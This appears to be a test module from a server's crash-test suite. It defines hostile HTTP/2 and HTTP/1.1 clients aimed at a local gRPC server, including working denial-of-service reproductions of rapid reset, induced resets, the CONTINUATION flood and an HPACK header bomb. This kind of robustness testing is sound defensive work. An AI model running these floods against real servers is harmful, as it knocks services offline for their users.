"""Clients that behave badly, a function each: `python -m tests.crash.attackers NAME PORT SECONDS`.

Rules:
1. An attacker runs in a process of its own, at low priority and at a bounded rate: what a bystander
   feels is the server's doing and not the want of a processor.
2. The server may refuse, reset or drop an attacker at any time; it then begins anew.
"""

from __future__ import annotations

import contextlib
import os
import random
import resource
import socket
import sys
import time
from collections.abc import Callable, Iterator

from tests.http2 import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW,
    block,
    frame,
    grpc_headers,
    prefixed,
)
from tests.messages import encode
from tests.wire import Client

END_STREAM, END_HEADERS = 1, 4
PUT = block(grpc_headers("/etcdserverpb.KV/Put"))
LIST = block(grpc_headers("/etcdserverpb.KV/Range"))
GOOD = prefixed(encode("PutRequest", {"key": b"attacker", "value": b"v"}))
EVERYTHING = prefixed(encode("RangeRequest", {"key": b"\0", "range_end": b"\0"}))
# SETTINGS_INITIAL_WINDOW_SIZE (4) of 2^31 - 1, and of nothing.
WIDE = frame(SETTINGS, 0, 0, b"\0\x04\x7f\xff\xff\xff")
SHUT = frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
OPEN_CONNECTION = frame(WINDOW, 0, 0, b"\x7f\xfe\0\0")
FILES_MAX = 20_000

Attack = Callable[[int, float], None]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    """Enter it in the table."""
    ATTACKS[function.__name__] = function
    return function


def connect(port: int, first: bytes = PREFACE + frame(SETTINGS, 0, 0)) -> socket.socket:
    """A connection whose first bytes are sent; it reads nothing."""
    peer = socket.create_connection(("127.0.0.1", port), timeout=5)
    peer.sendall(first)
    peer.settimeout(0.5)
    return peer


def rounds(seconds: float, pause: float) -> Iterator[int]:
    """Numbers until the time is over, with a pause between."""
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        yield number
        number += 1
        time.sleep(pause)


def flood(port: int, seconds: float, pause: float, burst: Callable[[int], bytes]) -> None:
    """Send burst after burst on one connection, and on a new one whenever the server ends it."""
    peer: socket.socket | None = None
    sent = 0
    for _ in rounds(seconds, pause):
        try:
            if peer is None:
                peer, sent = connect(port), 0
            peer.sendall(burst(sent))
            sent += 1
        except TimeoutError:
            continue  # the server stopped reading: as it should
        except OSError:
            if peer is not None:
                peer.close()
            peer = None
    if peer is not None:
        peer.close()


@attack
def slow_readers(port: int, seconds: float) -> None:
    """Ask for long lists and never read them."""
    peers = []
    for _ in range(10):
        asks = b"".join(
            frame(HEADERS, END_HEADERS, number, LIST) + frame(DATA, END_STREAM, number, EVERYTHING)
            for number in range(1, 41, 2)
        )
        peers.append(connect(port, PREFACE + WIDE + OPEN_CONNECTION + asks))
    time.sleep(seconds)  # the attack: to hold them so
    for peer in peers:
        peer.close()


@attack
def shut_windows(port: int, seconds: float) -> None:
    """Ask for long lists with a window of nothing."""
    peers = []
    for _ in range(10):
        asks = b"".join(
            frame(HEADERS, END_HEADERS, number, LIST) + frame(DATA, END_STREAM, number, EVERYTHING)
            for number in range(1, 41, 2)
        )
        peers.append(connect(port, PREFACE + SHUT + asks))
    time.sleep(seconds)  # the attack: to hold them so
    for peer in peers:
        peer.close()


@attack
def tiny_windows(port: int, seconds: float) -> None:
    """Give the window back byte by byte."""
    ask = frame(HEADERS, END_HEADERS, 1, LIST) + frame(DATA, END_STREAM, 1, EVERYTHING)
    one = frame(WINDOW, 0, 1, b"\0\0\0\1") + frame(WINDOW, 0, 0, b"\0\0\0\1")
    flood(port, seconds, 0.01, lambda sent: SHUT + ask if sent == 0 else one * 50)


@attack
def half_open(port: int, seconds: float) -> None:
    """Say half of something and go silent; come back with another half."""
    starts = [
        b"",
        b"PRI",
        PREFACE[:20],
        PREFACE,
        PREFACE + frame(SETTINGS, 0, 0)[:5],
        PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, PUT)[:20],
        PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, PUT),
        b"GET /health HTTP/1.1\r\nHo",
    ]
    peers = []
    for number in rounds(seconds, 0.005):
        peers.append(connect(port, starts[number % len(starts)]))
    for peer in peers:
        peer.close()


@attack
def slow_headers(port: int, seconds: float) -> None:
    """Send requests a byte at a time."""
    request = b"GET /health HTTP/1.1\r\n" + b"X-A: y\r\n" * 200
    peers = [connect(port, request[:4]) for _ in range(100)]
    for number in rounds(seconds, 0.2):
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.sendall(request[4 + number : 5 + number])
    for peer in peers:
        peer.close()


@attack
def connect_storm(port: int, seconds: float) -> None:
    """A thousand connections a second, gone at once."""
    for number in rounds(seconds, 0.01):
        for _ in range(10):
            with contextlib.suppress(OSError):
                first = PREFACE + frame(SETTINGS, 0, 0) if number % 2 else b""
                connect(port, first).close()


@attack
def resets(port: int, seconds: float) -> None:
    """Open streams and reset them at once (CVE-2023-44487)."""

    def burst(sent: int) -> bytes:
        first = 1 + sent * 100
        return b"".join(
            frame(HEADERS, END_HEADERS, number, PUT) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")
            for number in range(first, first + 100, 2)
        )

    flood(port, seconds, 0.01, burst)


@attack
def induced_resets(port: int, seconds: float) -> None:
    """Make the server reset streams (CVE-2025-8671): each breaks its own window."""

    def burst(sent: int) -> bytes:
        first = 1 + sent * 40
        overflow = b"\x7f\xff\xff\xff"
        return b"".join(
            frame(HEADERS, END_HEADERS, number, PUT) + frame(WINDOW, 0, number, overflow)
            for number in range(first, first + 40, 2)
        )

    flood(port, seconds, 0.01, burst)


@attack
def pings(port: int, seconds: float) -> None:
    """PING without end, and no answer read."""
    flood(port, seconds, 0.005, lambda sent: frame(PING, 0, 0, bytes(8)) * 100)


@attack
def settings(port: int, seconds: float) -> None:
    """SETTINGS without end, and no answer read."""
    flood(port, seconds, 0.005, lambda sent: frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 100)


@attack
def priorities(port: int, seconds: float) -> None:
    """PRIORITY for streams that are not there."""
    flood(
        port,
        seconds,
        0.005,
        lambda sent: b"".join(
            frame(PRIORITY, 0, number, b"\0\0\0\0\x10") for number in range(1, 200, 2)
        ),
    )


@attack
def continuations(port: int, seconds: float) -> None:
    """A header block that never ends (CVE-2023-45288)."""
    more = frame(CONTINUATION, 0, 1, block([("x", "y" * 100)]) * 20)
    flood(port, seconds, 0.01, lambda sent: frame(HEADERS, 0, 1, PUT) if sent == 0 else more * 5)


@attack
def long_headers(port: int, seconds: float) -> None:
    """Header lists of megabytes, from few bytes each (CVE-2022-41723)."""
    # A literal with indexing of 3,900 bytes, then its index (62) again and again.
    literal = b"\x40\x01x" + b"\x7f" + b"\xbd\x1d" + b"y" * 3900
    bomb = PUT + literal + b"\xbe" * 10_000
    flood(port, seconds, 0.02, lambda sent: frame(HEADERS, END_HEADERS, 1 + 2 * sent, bomb))


@attack
def empty_data(port: int, seconds: float) -> None:
    """DATA frames that hold nothing."""
    start = frame(HEADERS, END_HEADERS, 1, PUT)
    flood(port, seconds, 0.005, lambda sent: start if sent == 0 else frame(DATA, 0, 1) * 200)


@attack
def unknown_frames(port: int, seconds: float) -> None:
    """Frames of kinds that do not exist, and broken ones that do."""
    chance = random.Random(1)

    def burst(sent: int) -> bytes:
        known = frame(chance.randrange(10), chance.randrange(256), chance.randrange(5), b"\0" * 9)
        new = [frame(chance.randrange(10, 256), 0, 0, b"x" * 20) for _ in range(20)]
        return b"".join(new) + (known if sent % 10 == 9 else b"")

    flood(port, seconds, 0.01, burst)


@attack
def garbage(port: int, seconds: float) -> None:
    """Anything at all."""
    chance = random.Random(2)
    for _ in rounds(seconds, 0.01):
        with contextlib.suppress(OSError):
            start = chance.choice([b"", PREFACE, b"GET / HTTP/1.1\r\n"])
            connect(port, start + chance.randbytes(chance.randrange(2000))).close()


@attack
def cancels(port: int, seconds: float) -> None:
    """Calls taken back at once, and calls with no time to be answered."""
    with Client(port) as client:
        for _ in rounds(seconds, 0.02):
            calls = [client.start("KV/Put", {"key": b"attacker"}) for _ in range(5)]
            for call in calls:
                call.cancel()
            for _ in range(5):
                client.start("KV/Put", {"key": b"attacker"}, seconds=0.0005)


@attack
def broken_calls(port: int, seconds: float) -> None:
    """Connections that end in the middle of their calls."""
    asks = b"".join(
        frame(HEADERS, END_HEADERS, number, PUT) + frame(DATA, END_STREAM, number, GOOD)
        for number in range(1, 41, 2)
    )
    for number in rounds(seconds, 0.01):
        with contextlib.suppress(OSError):
            cut = 30 + number * 37 % len(asks)
            connect(port, PREFACE + frame(SETTINGS, 0, 0) + asks[:cut]).close()


@attack
def pipelines(port: int, seconds: float) -> None:
    """HTTP/1.1 requests one after another, and no answer read."""
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
    peers = [connect(port, b"") for _ in range(5)]
    for _ in rounds(seconds, 0.05):
        for peer in peers:
            with contextlib.suppress(OSError):
                peer.sendall(request)
    for peer in peers:
        peer.close()


def hold_idle(port: int, count: int) -> None:
    """Open so many connections, say so, and keep them until standard input ends."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (FILES_MAX, FILES_MAX))
    peers = []
    for number in range(count):
        peers.append(connect(port))
        if number % 100 == 99:
            time.sleep(0.02)  # so that no queue of connections overflows
    print("open", flush=True)
    sys.stdin.read()
    for peer in peers:
        peer.close()


def main() -> None:
    """The command line."""
    name, port, amount = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    os.nice(10)
    if name == "idle":
        hold_idle(port, int(amount))
    else:
        ATTACKS[name](port, amount)


if __name__ == "__main__":
    main()
